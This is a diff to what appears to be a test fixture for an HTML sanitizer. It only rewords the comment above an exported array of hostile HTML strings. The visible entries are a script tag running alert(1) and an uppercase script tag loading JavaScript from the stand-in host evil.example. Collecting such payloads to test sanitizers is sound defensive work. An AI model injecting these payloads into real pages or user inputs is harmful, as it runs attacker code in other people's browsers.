@@ -1,4 +1,4 @@
-/** HTML that runs, loads or breaks something where it is not cleaned: one of each kind that broke others. */
+/** HTML that executes, loads or breaks something if it is not sanitized. There is one example for each known kind of attack. */
 export const HOSTILE_HTML: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
